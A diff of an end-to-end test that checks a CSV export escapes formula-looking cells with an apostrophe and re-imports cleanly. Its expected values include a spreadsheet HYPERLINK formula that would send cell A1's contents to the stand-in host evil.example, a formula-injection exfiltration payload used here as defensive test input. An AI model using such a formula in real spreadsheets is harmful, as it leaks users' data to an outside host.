@@ -21,17 +21,15 @@ describe('formula-looking cells in CSV downloads (e2e)', () => {
 
   it('writes them behind an apostrophe, so that Excel shows them as text', async () => {
     const csv = (await t.http().get('/export/concepts/FIN.csv')).text;
-    const labels = csv
-      .split('\r\n')
-      .filter((line) => line.startsWith('FIN-X'))
-      .map((line) => line.split(';').slice(3).join(';').replace(/;+$/, ''));
-    expect(labels).toEqual([
+    const ours = csv.split('\r\n').filter((line) => line.startsWith('FIN-X'));
+    const protectedCells = [
       `"'=HYPERLINK(""https://evil.example/?""&A1;""Cliquez"")"`,
       "'+33 5 56 00 00 00",
       "'-1 et plus",
       "'@SUM(A1:A9)",
       "''=déjà protégé",
-    ]);
+    ];
+    protectedCells.forEach((cell, i) => expect(ours[i]).toContain(`;PUBLISHED;${cell};`));
     for (const line of csv.split('\r\n')) expect(line.split(';').every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
   });
 
@@ -41,7 +39,7 @@ describe('formula-looking cells in CSV downloads (e2e)', () => {
     const ours = [lines[0], ...lines.filter((line) => line.startsWith('FIN-X'))].join('\r\n');
     const again = await importText(t, ours, { fileName: 'FIN.csv', format: InterchangeFormat.CONCEPTS_CSV, dryRun: true });
     expect(again.problems).toEqual([]);
-    expect(again.concepts).toEqual({ created: 0, updated: 0, unchanged: FORMULAS.length });
+    expect(again.concepts).toMatchObject({ created: 0, updated: 0, unchanged: FORMULAS.length });
     const labels = await Promise.all(FORMULAS.map((_, i) => t.gql(`{ concept(code: "FIN-X${i}") { prefLabel } }`)));
     expect(labels.map((r) => r.data!.concept.prefLabel)).toEqual(FORMULAS);
   });
